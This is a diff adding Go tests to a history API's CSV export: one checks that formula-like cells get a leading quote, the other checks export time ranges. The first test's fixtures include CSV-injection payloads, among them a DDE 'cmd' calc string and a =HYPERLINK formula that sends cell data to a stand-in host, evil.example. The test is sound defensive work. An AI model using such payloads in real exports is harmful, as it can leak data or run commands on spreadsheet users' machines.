@@ -2,11 +2,13 @@ package historyapi
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -223,5 +225,71 @@ func testPageBeforeGivesNextOnlyWhenRowsFollow(t *testing.T, dbURL string) {
 	}
 	if rest := list("&after=" + url.QueryEscape(*first.Next)); len(rest.Data) != 0 {
 		t.Fatalf("rows after the deleted ones: %+v", rest)
+	}
+}
+
+// A CSV cell a spreadsheet would read as a formula (one that begins with =,
+// +, -, @, a tab or a carriage return, as OWASP lists them) is exported
+// with a ' before it, so a client's model name or error text cannot run
+// in the operator's spreadsheet; quotes, commas and newlines stay in their
+// cell, and the numbers are as they were.
+func TestCSVExportEscapesFormulas(t *testing.T) {
+	storetest.Each(t, testCSVExportEscapesFormulas)
+}
+
+func testCSVExportEscapesFormulas(t *testing.T, dbURL string) {
+	a, st := apiOver(t, dbURL)
+	at := time.UnixMilli(time.Now().Add(-time.Hour).UnixMilli())
+	b := qp.Batch{Exchanges: []qp.Exchange{{
+		Request: qp.Request{RequestID: "+1+cmd|' /C calc'!A0", Timestamp: at, Method: "POST", Path: "/v1/chat/completions",
+			Model: `=HYPERLINK("https://evil.example/?"&A1,"x")`, ClientIP: "127.0.0.1", Account: "@SUM(1+1)"},
+		Response: qp.Response{ResponseID: "r-1", Timestamp: at.Add(time.Millisecond), Status: qp.StatusError, HTTPStatus: 502,
+			ErrorType: "\tupstream", ErrorMessage: "-2+3 said \"no\",\nthen\r=1", UpstreamErrors: []string{"\r=2"}, Duration: time.Millisecond, UpstreamAttempts: 1}}}}
+	if err := st.WriteBatch(context.Background(), b); err != nil {
+		t.Fatal(err)
+	}
+	w := serve(a.Export, "GET", "/v1/export?format=csv")
+	rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("csv export: %v %q", err, w.Body)
+	}
+	got := map[string]string{}
+	for i, name := range rows[0] {
+		got[name] = rows[1][i]
+	}
+	want := map[string]string{
+		"request_id": "'+1+cmd|' /C calc'!A0", "model": `'=HYPERLINK("https://evil.example/?"&A1,"x")`, "account": "'@SUM(1+1)",
+		"error_type": "'\tupstream", "error": "'-2+3 said \"no\",\nthen\r=1", "upstream_errors": "'\r=2",
+		"path": "/v1/chat/completions", "http_status": "502", "upstream_attempts": "1",
+	}
+	for name, v := range want {
+		if got[name] != v {
+			t.Errorf("%s: %q, want %q", name, got[name], v)
+		}
+	}
+}
+
+// An export's range holds the calls at or after its start and before its
+// end, as the README says: ranges that meet never export a call twice.
+func TestExportRangeIncludesStartExcludesEnd(t *testing.T) {
+	storetest.Each(t, testExportRangeIncludesStartExcludesEnd)
+}
+
+func testExportRangeIncludesStartExcludesEnd(t *testing.T, dbURL string) {
+	a, st := apiOver(t, dbURL)
+	seedCalls(t, st, 3) // a second apart, from an hour ago
+	rows, err := csv.NewReader(strings.NewReader(serve(a.Export, "GET", "/v1/export?format=csv").Body.String())).ReadAll()
+	if err != nil || len(rows) != 4 {
+		t.Fatalf("export: %v %q", err, rows)
+	}
+	first, _ := strconv.ParseInt(rows[1][3], 10, 64) // timestamp, in Unix ms
+	for _, c := range []struct {
+		start, end int64
+		want       int
+	}{{first, first, 0}, {first, first + 1, 1}, {first, first + 1000, 1}, {first + 1000, first + 3000, 2}, {first, first + 3000, 3}} {
+		w := serve(a.Export, "GET", fmt.Sprintf("/v1/export?format=csv&start=%d&end=%d", c.start, c.end))
+		if got := strings.Count(w.Body.String(), "\n") - 1; w.Code != 200 || got != c.want {
+			t.Errorf("start=+%d ms end=+%d ms: %d, %d calls, want %d", c.start-first, c.end-first, w.Code, got, c.want)
+		}
 	}
 }
